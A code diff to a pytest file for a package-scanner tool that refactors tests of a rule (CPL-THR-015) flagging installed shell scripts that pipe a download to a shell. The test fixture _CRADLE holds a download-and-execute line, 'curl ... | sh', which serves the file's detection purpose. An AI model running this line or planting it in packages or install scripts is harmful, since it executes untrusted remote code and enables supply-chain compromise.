@@ -16,10 +16,10 @@ from pathlib import Path
 
 import pytest
 
-from caplet._findings import Severity
 from caplet._scan._model import ScanMode
 from caplet._scan._scanner import scan_tree
 from caplet._scan._shell_scripts import InstalledCommands, shell_script
+from tests._scan.scankit import package_danger
 
 _CRADLE = "#!/bin/sh\nset -e\ncurl -s http://198.51.100.7/x | sh\n"
 
@@ -52,11 +52,6 @@ def _target(tmp_path: Path, files: dict[str, str], form: str) -> Path:
     return target
 
 
-def _danger(target: Path) -> set[tuple[str, str]]:
-    report = scan_tree(target, mode=ScanMode.PACKAGE)
-    return {(f.rule_id, f.file) for f in report.findings if f.severity is Severity.DANGER}
-
-
 @pytest.mark.parametrize(
     ("files", "script"),
     [
@@ -76,13 +71,15 @@ def _danger(target: Path) -> set[tuple[str, str]]:
 def test_a_shell_script_installed_as_a_command_that_pipes_a_download_to_a_shell_is_danger(
     tmp_path: Path, files: dict[str, str], script: str, form: str
 ) -> None:
-    found = _danger(_target(tmp_path, files, form))
+    found = package_danger(_target(tmp_path, files, form))
     assert ("CPL-THR-015", script) in found  # (an sdist's top folder is dropped)
 
 
-def test_a_wheels_shell_script_that_pipes_a_download_to_a_shell_is_danger(tmp_path: Path) -> None:
+def test_a_wheels_shell_script_that_pipes_a_download_to_a_shell_is_danger(
+    tmp_path: Path,
+) -> None:
     files = {"pkg/__init__.py": "", "pkg-1.0.data/scripts/pkg-up": _CRADLE}
-    assert ("CPL-THR-015", "pkg-1.0.data/scripts/pkg-up") in _danger(
+    assert ("CPL-THR-015", "pkg-1.0.data/scripts/pkg-up") in package_danger(
         _target(tmp_path, files, "wheel")
     )
 
@@ -106,7 +103,7 @@ def test_a_wheels_shell_script_that_pipes_a_download_to_a_shell_is_danger(tmp_pa
 def test_shell_scripts_that_are_not_installed_cradles_stay_clean(
     tmp_path: Path, files: dict[str, str], form: str
 ) -> None:
-    assert not {r for r, _ in _danger(_target(tmp_path, files, form))} & {"CPL-THR-015"}
+    assert not {r for r, _ in package_danger(_target(tmp_path, files, form))} & {"CPL-THR-015"}
 
 
 def test_a_plugins_shell_scripts_are_not_read_as_commands(tmp_path: Path) -> None:
